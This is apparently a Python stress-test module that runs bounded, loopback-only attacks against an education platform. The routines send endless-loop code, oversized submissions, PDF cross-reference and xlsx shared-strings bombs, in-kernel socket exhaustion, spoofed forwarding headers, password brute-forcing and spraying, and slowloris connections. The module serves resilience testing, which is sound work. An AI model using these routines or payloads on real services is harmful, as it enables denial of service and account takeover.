"""What `bench/hostile.py` does to a platform: one function an attack, each stops at ``until``.

Loopback only, bounded in number, and every request comes from an address that no honest learner
of the benchmark has. An attack that is refused goes on trying: that is what attackers do.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import itertools
import random
import time
import zipfile
import zlib
from collections.abc import Awaitable, Callable, Iterator
from typing import TYPE_CHECKING, Any

import httpx
from hostile_stage import as_json
from lab_hub import Kernel

if TYPE_CHECKING:
    from hostile_stage import Person, Stage

ENDLESS = "while True:\n    pass\n"
PDF_AT_ONCE, LOGIN_THREADS, SLOW_CLIENTS, CALLERS = 9, 40, 200, 20
SHARED_STRINGS, LAB_CONNECTIONS = 400_000, 1_000
GENTLE_S = 0.02  # between two tries of one attacker's task: a loop, not a denial by the benchmark


async def runs(stage: Stage, until: float) -> None:
    """Four endless *Chạy thử* of one learner, again and again."""
    who = await stage.attacker()
    code = {stage.code_cell: ENDLESS}
    body = {"cell": stage.code_cell, "answers": code}
    await _together(4, until, lambda: who.send("POST", f"{stage.lesson_api}/run", body))


async def submissions(stage: Stage, until: float) -> None:
    """Endless notebooks of one learner, handed in as often as the platform takes them."""
    who = await stage.attacker()

    def endless() -> dict[str, Any]:
        notebook = stage.notebook_with(ENDLESS)
        return {**stage.wanted, "notebook": notebook}

    await _together(3, until, lambda: who.send("POST", stage.submissions_api, endless()))


async def big(stage: Stage, until: float) -> None:
    """Nine megabytes handed in and saved as a draft, in a loop, by one learner."""
    who = await stage.attacker()
    waste = "".join(random.Random(1).choices("abcdefghij", k=9_000_000))
    notebook = stage.notebook_with("1")
    notebook["cells"].append({"cell_type": "raw", "id": "rac", "metadata": {}, "source": waste})
    # Made once: the benchmark's own loop must not be what the honest wait for.
    submission = as_json({**stage.wanted, "notebook": notebook})
    draft = as_json({"revision": 1, "notebook": notebook})

    async def once() -> None:
        await who.send("POST", stage.submissions_api, submission)
        await who.send("PUT", f"{stage.lesson_api}/draft", draft)

    await _together(2, until, once)


async def pdf(stage: Stage, until: float) -> None:
    """Nine small PDFs at once, whose cross-reference stream claims millions of objects."""
    who = stage.stranger()
    await who.get("services/portal/verify")
    bomb = xref_bomb()

    async def once() -> None:
        await who.upload("services/portal/verify", "giay.pdf", bomb)

    await _together(PDF_AT_ONCE, until, once)


async def roster(stage: Stage, until: float) -> None:
    """An officer checks lists of a few kilobytes with hundreds of thousands of empty strings."""
    who = await stage.attacker(officer=True)
    bomb = strings_bomb()

    async def once() -> None:
        await who.upload("services/portal/roster", "ds.xlsx", bomb, how="check")

    await _together(4, until, once)


async def lab_door(stage: Stage, until: float) -> None:
    """A lab opens connections to the hub's door, as many as it may, and holds them."""
    who = await stage.attacker(address="127.0.0.1")  # where the harness's kernels come from
    await stage.open_lab(who)
    async with stage.kernel(who, Kernel) as kernel:
        while time.monotonic() < until:
            with contextlib.suppress(Exception):
                await kernel.run(HOLD % (LAB_CONNECTIONS, max(1.0, until - time.monotonic())), 90)
            await asyncio.sleep(GENTLE_S)


# Finds every socket there is in the lab and connects to it until something refuses.
HOLD = """
import os, socket, stat, time
held = []
for place, folders, files in os.walk("/"):
    folders[:] = [one for one in folders if one not in ("proc", "sys", "usr", "dev", "lib")]
    for name in files:
        path = os.path.join(place, name)
        try:
            if not stat.S_ISSOCK(os.stat(path).st_mode): continue
            for _ in range(%d):
                one = socket.socket(socket.AF_UNIX); one.settimeout(1); one.connect(path)
                one.send(b"GET /hub/api HTTP/1.1\\r\\n"); held.append(one)
        except OSError:
            pass
time.sleep(%f)
"""


async def headers(stage: Stage, until: float) -> None:
    """Public pages by callers who choose their address themselves, a new one each time."""
    chance, numbers = random.Random(2), itertools.count()

    async def once() -> None:
        chosen = f"10.{chance.randrange(256)}.{chance.randrange(256)}.{next(numbers) % 256}"
        named = {"X-Real-Ip": chosen, "X-Forwarded-For": chosen}
        await who.get("services/portal/verify/MC-2026-000000-0", headers=named)

    who = stage.stranger()
    await _together(CALLERS, until, once)


async def login_one(stage: Stage, until: float) -> None:
    """Forty at once with wrong passwords for the name of one of the honest."""
    name = stage.honest_names[0]
    await _wrong_logins(stage, until, lambda: name)


async def login_sixty(stage: Stage, until: float) -> None:
    """Forty at once that try one password on sixty names."""
    names = itertools.cycle(stage.bystanders)
    await _wrong_logins(stage, until, lambda: next(names))


async def slow(stage: Stage, until: float) -> None:
    """Two hundred who send a byte a second and never finish a request."""

    async def one() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection(
                    stage.host, stage.port, local_addr=(stage.attackers_address, 0)
                )
                try:
                    writer.write(
                        b"POST /hub/login HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"
                    )
                    while time.monotonic() < until:
                        writer.write(b"x")
                        await writer.drain()
                        await asyncio.sleep(1)
                finally:
                    writer.close()
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(SLOW_CLIENTS)))


ATTACKS: dict[str, Callable[[Stage, float], Awaitable[None]]] = {
    one.__name__: one
    for one in (
        runs, submissions, big, pdf, roster, lab_door, headers, login_one, login_sixty, slow
    )
}  # fmt: skip


async def _wrong_logins(stage: Stage, until: float, name: Callable[[], str]) -> None:
    async def one() -> None:
        who: Person = stage.stranger()
        while time.monotonic() < until:
            with contextlib.suppress(httpx.HTTPError, IndexError, TimeoutError):
                async with asyncio.timeout(max(1.0, until - time.monotonic())):
                    await who.try_password(name(), "mật khẩu sai 12345")
            await asyncio.sleep(GENTLE_S)

    await asyncio.gather(*(one() for _ in range(LOGIN_THREADS)))


async def _together(many: int, until: float, once: Callable[[], Awaitable[Any]]) -> None:
    """``many`` tasks that do ``once`` in a loop; what fails is tried again."""

    async def loop() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(httpx.HTTPError, TimeoutError):
                async with asyncio.timeout(max(1.0, until - time.monotonic())):
                    await once()
            await asyncio.sleep(GENTLE_S)

    await asyncio.gather(*(loop() for _ in range(many)))


def xref_bomb(size: int = 20_000_000) -> bytes:
    """A small PDF whose cross-reference stream speaks of ``size`` objects."""
    rows = zlib.compress(b"\0" * (3 * 1_000_000), 9)
    head = b"%PDF-1.7\n"
    stream = (
        b"1 0 obj\n<< /Type /XRef /Size %d /W [1 1 1] /Index [0 %d] /Root 2 0 R "
        b"/Filter /FlateDecode /Length %d >>\nstream\n" % (size, size, len(rows))
    )
    return head + stream + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def strings_bomb(strings: int = SHARED_STRINGS) -> bytes:
    """An xlsx of some kilobytes whose table of strings has ``strings`` empty ones."""
    file = io.BytesIO()
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in _sheet_parts(main):
            archive.writestr(name, text)
        archive.writestr("xl/sharedStrings.xml", f'<sst xmlns="{main}">{"<si/>" * strings}</sst>')
    return file.getvalue()


def _sheet_parts(main: str) -> Iterator[tuple[str, str]]:
    package = "http://schemas.openxmlformats.org/package/2006"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    yield (
        "[Content_Types].xml",
        f'<Types xmlns="{package}/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/>'
        "</Types>",
    )
    yield (
        "_rels/.rels",
        f'<Relationships xmlns="{package}/relationships"><Relationship Id="a" '
        f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    )
    yield (
        "xl/_rels/workbook.xml.rels",
        f'<Relationships xmlns="{package}/relationships">'
        f'<Relationship Id="a" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="b" Type="{office}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>",
    )
    yield (
        "xl/workbook.xml",
        f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
        '<sheet name="A" sheetId="1" r:id="a"/></sheets></workbook>',
    )
    yield (
        "xl/worksheets/sheet1.xml",
        f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
        "</sheetData></worksheet>",
    )
